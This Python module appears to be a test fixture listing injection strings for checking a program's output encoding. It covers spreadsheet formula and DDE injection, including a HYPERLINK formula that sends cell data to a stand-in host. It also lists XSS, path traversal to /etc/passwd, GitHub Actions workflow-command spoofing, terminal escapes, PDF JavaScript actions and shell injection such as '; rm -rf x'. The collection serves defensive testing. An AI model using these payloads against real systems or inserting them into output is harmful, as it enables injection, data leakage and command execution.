"""Texts that are made to be taken for something else by whatever reads an output."""

import urllib.parse

# Who is aimed at -> texts that an officer could have typed; the program takes them all.
TEXTS = {
    "spreadsheet": (
        '=HYPERLINK("http://e.org?x="&A1,"see")', "=1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3|x",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
        "'=1+1", "''=1+1", "'quoted", '",=1+1', '","=1+1', '";=1+1', '"\n=1+1', "x\n=1+1", ";=1+1",
        " =1+1", "\u00a0=1+1", '=DDE("cmd";"/C calc";"!A0")', "%0A=1+1", "x\t=1+1", "\u2212" "1+1",
    ),
    "Markdown": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
        "![x](http://e.org/x.png)", "[x](http://e.org)", "<http://e.org>", "http://e.org/a_b",
        "https://e.org:8/?a=1&b=2#c", "www.e.org", "a@b.org", "mailto:a@b.org", "xmpp:a@b.org/c",
        "| a |", "a | b\n--- | ---\nc | d", "|", "```", "```html\n<b>\n```", "~~~\nx\n~~~",
        "# Title", "Title\n=====", "Title\n-----", "###### x", "&#x3c;b&#x3e;", "&lt;b&gt; &amp;",
        "&#0; &nbsp;", "[x]: http://e.org", "[x]: javascript:alert(1) 'x'", "[^1]", "[^1]: note",
        "- [ ] task", "- [x] task", "* item", "1. item", "+ item", "> quote", "    code", "---",
        "***", "<!-- x", "-->", "<!-- x -->", "<details open ontoggle=alert(1)>", "</td></tr>",
        "<a href='javascript:alert(1)'>x</a>", "<svg/onload=alert(1)>", "<style>*{}</style>",
        "**b** _i_ ~~s~~ `c`", "``a`b``", "\\", "x\\", "x  \ny", "<?php x ?>", "<![CDATA[x]]>",
        "$x$ $$y$$", ":smile:", "@team #12", "<title>x</title>", "<b>x", "<iframe src=//e.org>",
    ),
    "terminal": (
        # What YAML would make of these stays text outside double quotes.
        "\\e[31m", "\\x1b[31m", "\\u009b31m", "^[[31m", "\\033]8;;http://e.org\\a",
        # Bidirectional and other format characters: the reader warns, and they are shown as codes.
        "a\u202eb", "a\u2066b\u2069", "a\u200fb", "a\u061cb", "a\u200bb", "a\u2060b",
    ),
    "GitHub": (
        "::error::x", " ::error::x", "\u00a0::error file=a,line=1::x", "::add-mask::x",
        "::stop-commands::x", "::set-output name=a::b", "::set-env name=A::b", "##[error]x",
        "x ##[group]y", "###[error]x", "%0A::error::x", "%0D%0A::error::x", "%250A::error::x",
        "x\n::error::y", "x\n  ##[error]y", "::debug::", ":::error::x", "::::", "${{ secrets.A }}",
        "file=a,line=1::x", "title=a,b:c",
    ),
    "an address": (
        "../../etc/passwd", "%2e%2e/%2e%2e", "file:///etc/passwd", "javascript:alert(1)",
        "data:text/html,<b>", "//e.org/x", "\\\\e.org\\x", "a b#c?d=e", "ftp://e.org", "vbscript:x",
        "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "{0} {1}", "{{x}}",
    ),
    "XML": (
        "]]>", "]]]]>>", "<![CDATA[x]]>", "&entity;", '<!DOCTYPE x [<!ENTITY a "b">]>', "&a;",
        "<?xml version='1.1'?>", "</failure><testcase name='x'/>", "\"><testcase name='x'/>",
        "' onload='x", "</text><script>alert(1)</script>", "</title></svg><script>x</script>",
        "</desc><image href='http://e.org/x'/>", "&#x1b;", "&#27;", "<!--", "--",
    ),
    "PDF": (
        "(", ")", "\\", "((((", "))))", "\\)", "\\(", "\\051", ">>", "<<", "endobj", "endstream",
        "\nendstream\nendobj", "xref\ntrailer", "%%EOF", "/JS (app.alert(1))",
        "<< /S /JavaScript /JS (x) >>", "/URI (javascript:x)", ") /S /Launch (", "<FEFF0041>",
        "%x", "ET Q BT", "\\376\\377", "</x:xmpmeta>", "</rdf:li><rdf:li>x", "<?xpacket end='w'?>",
        "\u00fe\u00ff", "é\u0301", "👍🏽", "مرحبا",
    ),
    "a calendar": (
        "x\nBEGIN:VALARM", "\nEND:VEVENT\nBEGIN:VEVENT", ";VALUE=x:y", "\\n", "\\N", "\\,\\;",
        "x;y,z:w", "\\nATTACH:http://e.org", "é" * 80, "x" * 300, "END:VCALENDAR",
        'ATTENDEE;CN="x":mailto:a@b.org', "x\n ATTACH:http://e.org", "x\n\tURL:http://e.org",
        '"', "^n",
    ),
    "a shell": (
        "$(id)", "`id`", "'; id; '", '"; id; "', "x\nid", "$'\\x41'", "${IFS}", "!!", "~", "*",
        "; rm -rf x", "| id", "& id", "#x", "%s%n", "{a,b}", "'\\''",
    ),
}

# The same for names on one line.
LINES = {aim: tuple(text for text in texts if "\n" not in text and text == text.strip())
         for aim, texts in TEXTS.items()}

# What double quotes in YAML may hide, and what the program refuses: no output may hold it.
REFUSED_ESCAPES = (
    r"\e[31mred", r"\x1b[31mred", r"\x1B]0;x", r"\u001b[2J", r"\U0000001b[H",
    r"\e]8;;http://e.org\e\\x", r"\u009b31m", r"\x9b31m", r"\x85x", r"\u0085x", r"\a", r"\x07",
    r"\b\b\bx", r"\x7f", r"\0", r"\x00", r"\v", r"\f", r"\x0c", r"\N", r"\r::error::x",
    r"\r\n::error::x", r"\x0d##[error]x", r"\u008dx", r"\u0090x", r"\u009dx", r"\ufeffx",
    r"\ufdd0", r"\ufffe", r"\uffff", r"\ud800", r"\udfff\ud800", r"\U0001fffe", r"\U00110000",
)
# The same as bytes in the file.
REFUSED_BYTES = (
    b"\x1b[31mred", b"\x1b]8;;http://e.org\x1b\\x", b"\xc2\x9b31m", b"\x9b31m", b"\x07", b"\x08",
    b"\x7f",
    b"\x00", b"\x0b", b"\x0c", b"x\r::error::x", b"\xc2\x85x", b"\xed\xa0\x80", b"\xed\xb0\x80",
    b"\xef\xbf\xbe", b"\xef\xbf\xbf", b"\xff\xfe", b"\xc0\xbc", b"\xf4\x90\x80\x80", b"\xe2\x80",
)


def all_texts():
    return [text for texts in TEXTS.values() for text in texts]


def all_lines():
    return [text for texts in LINES.values() for text in texts]


def for_logs():
    """Those aimed at what reads the findings."""
    return [text for aim in ("terminal", "GitHub", "an address", "XML") for text in TEXTS[aim]]


def file_names():
    """Names that a file can have, as bytes: texts, what is refused inside a file, and what
    addresses take for more than a name. Numbers keep apart what looks alike."""
    names = [text.encode() for text in (*for_logs(), *TEXTS["Markdown"][:20])]
    # Readers do not agree on how many characters the beginning of one is.
    names += [spelt for spelt in REFUSED_BYTES if spelt != b"\xe2\x80"]
    names += [b"n\n::error::x", b"n\r##[error]x", b" lead", b"trail ", b"a#b?c", b"%2e%2e",
              b"file:", b"--", b"-o", b"\xef\xbb\xbfx", b"\xe2\x80\xa8::error::x", b"\n", b"a\tb"]
    return [name.replace(b"/", "\u2215".encode()).replace(b"\x00", b"") + b"%d" % n
            for n, name in enumerate(names)]


def as_address(text, number):
    """A text in an address that the program takes: nothing in it is white space."""
    safe = "()<>[]{}'\"*!$&+,;=:@|\\^`#%~"
    return f"https://e.org/{number}?q=" + urllib.parse.quote(text, safe=safe)
